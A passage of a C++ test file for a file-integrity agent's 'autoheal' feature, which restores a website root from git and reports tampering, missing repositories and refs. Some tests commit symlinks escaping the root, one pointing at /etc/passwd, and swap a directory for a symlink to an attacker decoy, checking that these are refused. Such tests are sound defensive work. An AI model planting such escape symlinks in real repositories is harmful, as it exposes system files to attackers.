    ASSERT_FALSE(HasFailure()) << "attempt " << i;
    EXPECT_EQ(ReadFileOrDie(path), "<h1>home</h1>\n");
  }
  auto e = agent_->WaitForEvent(AutohealOn("persistent_tampering", path), kEventTimeout);
  ASSERT_TRUE(e) << agent_->Transcript();
  EXPECT_EQ(Field(e->doc, "event.severity"), Json(4)) << e->doc.dump();
  EXPECT_EQ(Field(e->doc, "autoheal.restores_in_window"), Json(5)) << e->doc.dump();
  // Raised for the fifth restore, not before.
  size_t restores_before = 0;
  for (const auto& x : agent_->Events()) {
    if (AutohealOn("persistent_tampering", path)(x.doc)) break;
    if (AutohealOn("restored", path)(x.doc)) ++restores_before;
  }
  EXPECT_EQ(restores_before, 5u) << agent_->Transcript();
}

TEST_F(AutohealTest, StatusShowsTheRestoreCountAndTheCommit) {
  std::string commit = CommitSite();
  CheckoutRoot();
  StartAgent();
  Overwrite(P("about.html"), "defaced");
  ExpectRestored(P("about.html"), SteadyClock::now());
  // The agent records its status right after the event: look until it shows (with a deadline).
  Json status;
  auto deadline = SteadyClock::now() + kEventTimeout;
  for (;;) {
    CommandResult r = RunAgentCommand(
        {"autoheal", "status", "--config", config_, "--state-dir", state_, "--json"});
    ASSERT_EQ(r.exit_code, 0) << r.Transcript();
    const Json* mine =
        r.Find([&](const Json& j) { return j.is_object() && StrField(j, "root") == root_; });
    ASSERT_NE(mine, nullptr) << r.Transcript();
    status = *mine;
    if (status.value("restored", 0) >= 1 || SteadyClock::now() > deadline) break;
  }
  EXPECT_GE(status.value("restored", 0), 1) << status.dump();
  EXPECT_EQ(StrField(status, "applied_commit"), commit) << status.dump();
  EXPECT_EQ(StrField(status, "ref_commit"), commit) << status.dump();
  EXPECT_EQ(status.value("locked", true), false) << status.dump();
  EXPECT_EQ(StrField(status, "last_restore_path"), P("about.html")) << status.dump();
  EXPECT_FALSE(StrField(status, "last_restore").empty()) << status.dump();

  // The text form names the same.
  WriteFile(lock_, "");
  CommandResult text =
      RunAgentCommand({"autoheal", "status", "--config", config_, "--state-dir", state_});
  ASSERT_EQ(text.exit_code, 0) << text.Transcript();
  std::string out;
  for (const auto& l : text.stdout_lines) out += l + "\n";
  EXPECT_NE(out.find(root_), std::string::npos) << out;
  EXPECT_NE(out.find(commit.substr(0, 12)), std::string::npos) << out;
  EXPECT_NE(out.find("present"), std::string::npos) << "lock state\n" << out;
}

TEST_F(AutohealTest, ReportsAMissingRepositoryAndWritesNothing) {
  repository_ = tmp_.Sub("no-such-repository");
  WriteFile(P("index.html"), "not what any repository says\n");
  WriteFile(P("stray.txt"), "not in any repository\n");
  auto before = Snapshot(root_);
  StartAgent();
  auto e = agent_->WaitForEvent(
      [&](const Json& x) {
        return AutohealAction("repository_unavailable")(x) && StrField(x, "autoheal.root") == root_;
      },
      kEventTimeout);
  ASSERT_TRUE(e) << agent_->Transcript();
  EXPECT_FALSE(StrField(e->doc, "message").empty()) << e->doc.dump();
  Overwrite(P("index.html"), "changed while the repository is missing\n");
  before["index.html"] =
      fmt::format("file 0644 {}", Sha256Hex("changed while the repository is missing\n"));
  ASSERT_TRUE(agent_->WaitForEvent(ActionOn("modified", P("index.html")), kEventTimeout))
      << agent_->Transcript();
  // Several poll intervals (200 ms) go by: the agent keeps retrying, but says it once.
  SentinelsUntil(e->arrived, milliseconds(1200));
  EXPECT_EQ(Snapshot(root_), before);
  EXPECT_EQ(agent_->Count([&](const Json& x) {
    return StrField(x, "event.module") == "autoheal" &&
           StrField(x, "file.path").rfind(root_ + "/", 0) == 0;
  }),
            0u)
      << agent_->Transcript();
  EXPECT_EQ(agent_->Count(AutohealAction("repository_unavailable")), 1u) << agent_->Transcript();
}

TEST_F(AutohealTest, ReportsAMissingRefAndWritesNothing) {
  ref_ = "refs/heads/no-such-branch";
  std::string commit = CommitSite();
  CheckoutRoot();
  Overwrite(P("index.html"), "differs from git\n");
  WriteFile(P("stray.txt"), "not in git\n");
  auto before = Snapshot(root_);
  StartAgent();
  auto e = agent_->WaitForEvent(
      [&](const Json& x) {
        return AutohealAction("ref_unavailable")(x) && StrField(x, "autoheal.root") == root_;
      },
      kEventTimeout);
  ASSERT_TRUE(e) << agent_->Transcript();
  EXPECT_FALSE(StrField(e->doc, "message").empty()) << e->doc.dump();
  ASSERT_TRUE(fs::remove(P("about.html")));
  before.erase("about.html");
  ASSERT_TRUE(agent_->WaitForEvent(ActionOn("deleted", P("about.html")), kEventTimeout))
      << agent_->Transcript();
  SentinelsUntil(e->arrived, milliseconds(1200));
  EXPECT_EQ(Snapshot(root_), before);
  EXPECT_EQ(agent_->Count([&](const Json& x) {
    return StrField(x, "event.module") == "autoheal" &&
           StrField(x, "file.path").rfind(root_ + "/", 0) == 0;
  }),
            0u)
      << agent_->Transcript();
  EXPECT_EQ(agent_->Count(AutohealAction("ref_unavailable")), 1u) << agent_->Transcript();

  // Once the ref exists, the root is brought to it.
  Git(repo_, {"branch", "no-such-branch", commit});
  auto appeared = SteadyClock::now();
  ExpectRestored(P("index.html"), appeared);
  ExpectRestored(P("about.html"), appeared);
  ASSERT_TRUE(agent_->WaitForEvent(AutohealOn("unexpected_file", P("stray.txt")), kEventTimeout))
      << agent_->Transcript();
  ExpectRootIs(commit);
}

TEST_F(AutohealTest, RunExitsWithCode2WhenTheRootIsNotWatchedByIntegrity) {
  watch_root_ = false;
  CommitSite();
  CheckoutRoot();
  // Writes the policy the way StartAgent does, but runs it to its end.
  fs::create_directories(sentinel_root_);
  std::string yaml = fmt::format(
      "agent: {{outputs: {{file: false}}}}\n"
      "integrity: {{paths: [{{path: \"{}\"}}], schedule: 0, realtime: true}}\n"
      "autoheal:\n"
      "  roots:\n"
      "    - {{path: \"{}\", repository: \"{}\", ref: refs/heads/main, lock_file: \"{}\", "
      "unexpected_files: quarantine}}\n",
      sentinel_root_, root_, repo_, lock_);
  WriteFile(config_, yaml);
  auto before = Snapshot(root_);
  CommandResult r = RunAgentCommand({"run", "--config", config_, "--state-dir", state_});
  EXPECT_EQ(r.exit_code, 2) << r.Transcript();
  EXPECT_NE(r.stderr_text.find("autoheal.roots"), std::string::npos) << r.stderr_text;
  EXPECT_NE(r.stderr_text.find(root_), std::string::npos) << r.stderr_text;
  EXPECT_EQ(Snapshot(root_), before);
}

TEST_F(AutohealTest, RefusesASymlinkInGitThatPointsOutsideTheRoot) {
  RepoFile("index.html", "<h1>home</h1>\n");
  RepoSymlink("escape-relative", "../../etc/x");
  RepoSymlink("escape-absolute", "/etc/passwd");
  RepoSymlink("sub/escape-one-up", "../../outside");
  RepoFile("sub/page.html", "page\n");
  RepoSymlink("sub/inside", "../index.html");
  Commit("links");
  CheckoutRoot();
  for (const char* rel :
       {"escape-relative", "escape-absolute", "sub/escape-one-up", "sub/inside"}) {
    ASSERT_TRUE(fs::remove(P(rel))) << rel;
  }
  StartAgent();
  for (const char* rel : {"escape-relative", "escape-absolute", "sub/escape-one-up"}) {
    auto e = agent_->WaitForEvent(AutohealOn("refused", P(rel)), kEventTimeout);
    EXPECT_TRUE(e) << rel << "\n" << agent_->Transcript();
  }
  // A symlink that stays inside is fine: it comes back.
  ASSERT_TRUE(agent_->WaitForEvent(AutohealOn("restored", P("sub/inside")), kEventTimeout))
      << agent_->Transcript();
  EXPECT_EQ(fs::read_symlink(P("sub/inside")).string(), "../index.html");
  // Deleting the file next to one still does not create it.
  ASSERT_TRUE(fs::remove(P("sub/page.html")));
  ExpectRestored(P("sub/page.html"), SteadyClock::now());
  Sentinel();
  for (const char* rel : {"escape-relative", "escape-absolute", "sub/escape-one-up"}) {
    EXPECT_FALSE(Lstat(P(rel))) << rel << " was created";
    EXPECT_EQ(agent_->Count(AutohealOn("restored", P(rel))), 0u) << rel;
  }
}

TEST_F(AutohealTest, RecreatesADirectoryReplacedBySymlinkToOutsideInsideTheRoot) {
  std::string commit = CommitSite();
  CheckoutRoot();
  // The attacker's decoy, outside the root.
  WriteFile(outside_ + "/site.css", "decoy css\n");
  WriteFile(outside_ + "/other.txt", "decoy other\n");
  auto outside_before = Snapshot(outside_);
  StartAgent();
  // While the agent is stopped, so that all of it happens before any reaction: the directory is
  // swapped for a symlink to the decoy, then a file git has in that directory is deleted (through
  // the symlink, so in the decoy).
  ASSERT_TRUE(agent_->Pause());
  fs::rename(P("assets/css"), tmp_.Sub("moved-away-css"));
  ASSERT_EQ(::symlink(outside_.c_str(), P("assets/css").c_str()), 0);
  ASSERT_TRUE(fs::remove(P("assets/css/site.css")));
  outside_before.erase("site.css");
  ASSERT_EQ(Snapshot(outside_), outside_before);
  auto changed = SteadyClock::now();
  ASSERT_TRUE(agent_->Resume());

  ExpectRestored(P("assets/css"), changed);
  ExpectRestored(P("assets/css/site.css"), changed);
  auto st = Lstat(P("assets/css"));
  ASSERT_TRUE(st);
  EXPECT_TRUE(S_ISDIR(st->st_mode))
      << "assets/css is not a real directory: mode " << std::oct << st->st_mode;
  EXPECT_EQ(ReadFileOrDie(P("assets/css/site.css")), "body { color: black; }\n");
  Sentinel();
  EXPECT_EQ(Snapshot(outside_), outside_before) << "something was written outside the root";
  ExpectNoScratchFiles();
  ExpectRootIs(commit);
}

}  // namespace
}  // namespace ward::test
